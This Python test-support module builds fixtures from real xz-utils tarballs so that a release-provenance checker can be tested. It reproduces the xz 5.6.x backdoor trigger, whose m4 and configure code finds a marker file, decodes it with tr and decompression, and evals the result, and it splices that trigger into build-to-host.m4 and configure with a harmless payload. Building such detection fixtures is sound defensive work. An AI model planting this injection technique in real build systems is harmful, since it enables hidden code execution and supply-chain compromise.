"""Real inputs for the release tests: Debian orig tarballs and binary packages, downloaded
once per machine into ``.cache/release`` (git-ignored), and the xz-style fixtures built
from them."""

from __future__ import annotations

import subprocess
import tarfile
from pathlib import Path

import pytest
import realdata

from provcheck_release.m4db import M4Database, default_db
from provcheck_release.tools.harvest_m4 import download

ROOT = Path(__file__).resolve().parents[3]
CACHE = ROOT / ".cache" / "release"


def orig_tarball(package: str, pattern: str) -> Path:
    """A Debian orig tarball (``apt-get source --download-only``), cached."""
    src = CACHE / "src"
    hits = sorted(p for p in src.glob(pattern) if not p.name.endswith(".asc")) if src.is_dir() else []
    if hits:
        return hits[-1]
    src.mkdir(parents=True, exist_ok=True)
    realdata.apt_get("source", "--download-only", package, cwd=src)
    hits = sorted(p for p in src.glob(pattern) if not p.name.endswith(".asc"))
    if not hits:  # no deb-src in the system's sources: use a private apt state for bookworm
        download([package], src, suite="bookworm", source=True)
        hits = sorted(p for p in src.glob(pattern) if not p.name.endswith(".asc"))
    if not hits:
        pytest.fail(f"could not download the {package} source package ({pattern})")
    return hits[-1]


def binary_deb(package: str, pattern: str) -> Path:
    debs = CACHE / "debs"
    hits = sorted(debs.glob(pattern)) if debs.is_dir() else []
    if not hits:
        debs.mkdir(parents=True, exist_ok=True)
        realdata.apt_get("download", package, cwd=debs)
        hits = sorted(debs.glob(pattern))
    if not hits:
        pytest.fail(f"could not download {package} ({pattern})")
    return hits[-1]


def harvest(deb: Path, out: Path) -> M4Database:
    """The m4 database ``tools/harvest_m4.py`` writes from ``deb``, run as its user runs it."""
    import sys
    proc = subprocess.run([sys.executable, "-m", "provcheck_release.tools.harvest_m4", str(deb), "--output", str(out)],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return M4Database.load(out)


def read_tar(path: Path) -> dict[str, bytes]:
    """Regular files of a tarball by member name (test-side reader, for building fixtures)."""
    out: dict[str, bytes] = {}
    with tarfile.open(path) as t:
        for m in t.getmembers():
            if m.isfile():
                out[m.name.lstrip("./")] = t.extractfile(m).read()
    return out


# Files `make dist` generates for xz (and that xz's git ignores): the release adds them.
GENERATED_FILES = {"configure", "aclocal.m4", "config.h.in", "ABOUT-NLS", "ChangeLog"}
GENERATED = ("build-aux/", "po/", "po4a/", "doc/man/", "m4/")
KEEP_IN_GIT = ("m4/tuklib_", "m4/ax_check_capsicum.m4", "m4/ax_pthread.m4", "m4/getopt.m4", "m4/posix-shell.m4",
               "m4/visibility.m4",
               "po/LINGUAS", "po/POTFILES.in", "po/Makevars", "po/", "po4a/po4a.conf", "po4a/update-po",
               "build-aux/manconv.sh", "build-aux/version.sh")


def in_git(path: str) -> bool:
    if path.endswith("Makefile.in") or path.endswith(".gmo") or path.startswith("po4a/man/") or \
            path.endswith(".pot") or path in ("po/Makefile.in.in", "po/Rules-quot", "po/remove-potcdate.sin") or \
            path.startswith("po/") and path.endswith((".sed", ".sin", ".header", ".template")):
        return False
    if path.startswith(KEEP_IN_GIT):
        return True
    return path not in GENERATED_FILES and not path.startswith(GENERATED)


def xz_trees() -> tuple[dict[str, bytes], dict[str, bytes], str]:
    """(git tree, release tree without its top dir, top dir) from the real xz-utils 5.4.1 orig tarball."""
    files = read_tar(orig_tarball("xz-utils", "xz-utils_5.4.1*.orig.tar.xz"))
    top = next(iter(files)).split("/", 1)[0]
    release = {k.split("/", 1)[1]: v for k, v in files.items() if "/" in k}
    git = {k: v for k, v in release.items() if in_git(k)}
    # xz's tag tracks the m4 files of KEEP_IN_GIT (its getopt.m4 is gnulib's, modified): so must the fixture's
    git[".gitignore"] = (b"/configure\nMakefile.in\n/aclocal.m4\n/m4/*\n!/m4/tuklib_*.m4\n"
                         + b"".join(b"!/%s\n" % k.encode() for k in KEEP_IN_GIT if k.startswith("m4/") and
                                    k.endswith(".m4")) + b"/build-aux/*\n")
    git[".github/workflows/ci.yml"] = b"name: CI\non: [push]\n"
    git[".gitattributes"] = b"/tests/ossfuzz export-ignore\n"
    git["tests/ossfuzz/fuzz_decode_stream.c"] = b"/* fuzz target, export-ignored */\nint main(void) { return 0; }\n"
    return git, release, top


def published_m4(name: str, origin_prefix: str = "") -> tuple[str, str]:
    """(text, origin) of a published macro file from the shipped database (harvested from Debian)."""
    entries = [e for e in default_db().files[name] if e["origin"].startswith(origin_prefix)]
    best = max(entries, key=lambda e: [int(x) for x in (e["serial"] or "0").split(".")])
    return default_db().text(best), best["origin"]


# The xz 5.6.x trigger, reproduced with its real mechanics and a harmless payload: the
# macro finds a file by a content marker anywhere under $srcdir, undoes a character swap
# with tr, decompresses it and has config.status evaluate the result.
XZ_TRIGGER_INIT = r'''
  dnl Search for Automake-defined pkg* macros, in the order
  dnl listed in the Automake 1.10a+ documentation.
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  else
    HAVE_PKG_CONFIGMAKE=0
  fi

  gl_path_map='tr "\t \-_" " \t_\-"'
  gl_localedir_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  if test "x$gl_am_configmake" != "x"; then
    gl_localedir_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_localedir_prefix -d 2>/dev/null'
  else
    gl_localedir_config=''
  fi
'''
XZ_TRIGGER_COMMANDS = r'''
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_localedir_config"])
'''
# what autoconf writes into configure for it: the same shell, m4's dnl comments dropped
XZ_TRIGGER_CONFIGURE = "".join(line for line in XZ_TRIGGER_INIT.splitlines(keepends=True)
                               if not line.lstrip().startswith("dnl"))
XZ_TRIGGER_STATUS = '''    "build-to-host":C) eval $gl_config_gt | $SHELL 2>/dev/null ;;\n'''


def malicious_build_to_host(serial: str = "30") -> bytes:
    """gnulib's real build-to-host.m4 (from the database), relabelled and modified like xz 5.6.1's."""
    text, _ = published_m4("build-to-host.m4", "gnulib")
    lines = text.splitlines(keepends=True)
    out = []
    for line in lines:
        if line.startswith("# serial "):
            line = f"# serial {serial}\n"
        out.append(line)
        if line.startswith("AC_DEFUN([gl_BUILD_TO_HOST_INIT],"):
            out.append("[\n")
            out.append(XZ_TRIGGER_INIT)
    text = "".join(out).replace("[\n[\n", "[\n", 1)
    text = text.replace("  AC_SUBST([$1_c_make])\n])", "  AC_SUBST([$1_c_make])\n" + XZ_TRIGGER_COMMANDS + "])", 1)
    return text.encode()


def configure_with_trigger(configure: bytes) -> bytes:
    text = configure.decode("latin-1")
    anchor = "# Check whether --enable-nls was given."
    assert anchor in text, "the real configure changed shape"
    text = text.replace(anchor, XZ_TRIGGER_CONFIGURE + anchor, 1)
    anchor2 = "  case $ac_file$ac_mode in\n"
    if anchor2 in text:
        text = text.replace(anchor2, anchor2 + XZ_TRIGGER_STATUS, 1)
    return text.encode("latin-1")


# A payload file disguised as a corrupt test file: it carries the content marker the
# trigger greps for. Harmless: nothing is ever decoded or run.
BAD_TEST_FILE = bytes.fromhex("fd377a585a000004e6d6b446") + b"\t \x00\x01corrupt" * 20 + b"\n####Hello####\n"



def pypi_sdist(requirement: str, pattern: str) -> Path:
    """A real sdist from the Python package index (``pip download --no-binary :all:``), cached."""
    realdata.needs_real_data(f"pip download {requirement}")
    dest = CACHE / "pypi"
    hits = sorted(dest.glob(pattern)) if dest.is_dir() else []
    if not hits:
        dest.mkdir(parents=True, exist_ok=True)
        import sys
        subprocess.run([sys.executable, "-m", "pip", "download", "--no-binary", ":all:", "--no-deps",
                        "--no-build-isolation", requirement, "-d", str(dest)], capture_output=True, timeout=300)
        hits = sorted(dest.glob(pattern))
    if not hits:
        pytest.fail(f"could not download the {requirement} sdist")
    return hits[-1]


def build_xz(checker, xz_real, *, release_changes=None, git_changes=None, name="xz-5.4.1.tar.gz"):
    git, release, top = xz_real
    git = dict(git, **(git_changes or {}))
    release = dict(release, **(release_changes or {}))
    for k in [k for k, v in release.items() if v is None]:
        del release[k]
    repo = checker.gitrepo(git, name="xz", tags="v5.4.1")
    tarball = checker.tarball({f"{top}/{k}": v for k, v in sorted(release.items())}, name=name)
    return repo, tarball
